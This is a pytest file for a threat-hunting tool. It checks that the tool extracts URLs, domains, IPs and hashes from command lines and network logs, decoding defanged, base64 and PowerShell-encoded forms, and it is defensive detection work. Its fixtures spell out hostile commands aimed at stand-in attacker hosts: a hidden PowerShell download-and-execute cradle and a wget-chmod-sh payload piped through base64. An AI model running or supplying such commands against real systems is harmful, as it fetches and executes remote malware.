"""Indicator extraction from command lines and network events."""

from __future__ import annotations

import base64

import pandas as pd

from hunt_assets.intel.extract import extract_from_frame, extract_indicators


def _accepted(text):
    return {(e.indicator_type, e.indicator, e.via) for e in extract_indicators(text) if not e.reason}


def test_defanged_forms_are_refanged():
    got = _accepted("curl hxxps://evil-site[.]xyz/dl.php?id=1 ; nslookup c2[.]badguy(.)ru ; ping 45[.]77[.]10[.]3")
    assert ("url", "https://evil-site.xyz/dl.php?id=1", "text") in got
    assert ("domain", "c2.badguy.ru", "text") in got
    assert ("ip", "45.77.10.3", "text") in got


def test_powershell_encodedcommand_is_decoded_as_utf16le():
    payload = "IEX (New-Object Net.WebClient).DownloadString('http://stage2.example-c2.top/s.ps1'); 198.51.100.7"
    for flag in ("-EncodedCommand", "-enc", "-e", "-ec"):
        cmd = f"powershell.exe -NoP -W Hidden {flag} {base64.b64encode(payload.encode('utf-16-le')).decode()}"
        got = _accepted(cmd)
        assert ("url", "http://stage2.example-c2.top/s.ps1", "encodedcommand") in got, flag
        assert ("ip", "198.51.100.7", "encodedcommand") in got
    # .NET type names and the executable are not hosts and produce no noise
    assert not [e for e in extract_indicators(cmd) if "webclient" in e.raw.lower() or "powershell" in e.raw]


def test_generic_base64_blobs_are_decoded():
    blob = base64.b64encode(b"wget https://update-check.example.com/x -O /tmp/x; chmod +x /tmp/x").decode()
    assert ("url", "https://update-check.example.com/x", "base64") in _accepted(f"echo {blob} | base64 -d | sh")


def test_rejections_keep_their_reason():
    found = extract_indicators("copy invoice.zip \\\\10.0.0.5\\share & ping 127.0.0.1 & nslookup x[.]notatld")
    reasons = {e.raw: e.reason for e in found if e.reason}
    assert "private" in reasons["10.0.0.5"]
    assert "private" in reasons["127.0.0.1"]
    assert "file name" in reasons["invoice.zip"]
    assert "public suffix" in reasons["x[.]notatld"]
    bad = extract_indicators("powershell -enc ####notbase64%%%% AAAA")
    assert not [e for e in bad if not e.reason]


def test_hashes_and_frames_count_occurrences():
    sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    df = pd.DataFrame(
        {
            "ProcessCommandLine": [f"run {sha}", f"again {sha}", None],
            "RemoteUrl": ["hxxp://a.example-c2.xyz/p", "", "192.168.1.4"],
            "Other": ["x", "y", "z"],
        }
    )
    out = extract_from_frame(df, ["ProcessCommandLine", "RemoteUrl", "Missing"], source_table="hunts.t")
    row = out[(out["indicator"] == sha)].iloc[0]
    assert row["occurrences"] == 2
    assert row["indicator_type"] == "hash"
    assert row["accepted"]
    assert set(out[out["accepted"]]["indicator_type"]) == {"hash", "url"}
    assert list(out[~out["accepted"]]["raw"]) == ["192.168.1.4"]
    assert (out["source_table"] == "hunts.t").all()


def test_a_hunt_with_nothing_that_day_leaves_accepted_boolean(tmp_path):
    """Found by the demo when a new hunt had rows on one day only: the day's empty frame made the
    concatenated ``accepted`` column objects, and ``~accepted`` selected columns -1 / -2."""
    from datetime import date

    import dagster as dg
    import pyarrow as pa

    from hunt_assets.assets.intel import extract_day, hunt_indicators
    from hunt_assets.resources import WarehouseResource
    from hunt_assets.warehouse.store import Warehouse

    assert extract_from_frame(pd.DataFrame(), [])["accepted"].dtype == bool
    day, other = date(2026, 11, 17), date(2026, 11, 16)
    wh = Warehouse(tmp_path / "wh.duckdb")

    def part(d: date, urls: list[str]) -> pd.DataFrame:
        return pd.DataFrame({"partition_date": pd.Series([d] * len(urls), dtype=pd.ArrowDtype(pa.date32())),
                             "RemoteUrl": urls})

    wh.replace_partition("hunts.busy", part(day, ["http://evil-example.net/a", "\\\\10.0.0.5\\share"]),
                         "partition_date", day)
    wh.replace_partition("hunts.quiet", part(other, ["http://other-example.org/"]), "partition_date", other)
    df = extract_day(wh, day)
    assert df["accepted"].dtype == bool
    assert "http://evil-example.net/a" in set(df.loc[df["accepted"], "indicator"])
    assert "10.0.0.5" in set(df.loc[~df["accepted"], "raw"])
    result = dg.materialize([hunt_indicators], partition_key=day.isoformat(),
                            resources={"warehouse": WarehouseResource(path=str(tmp_path / "wh.duckdb"))})
    assert result.success
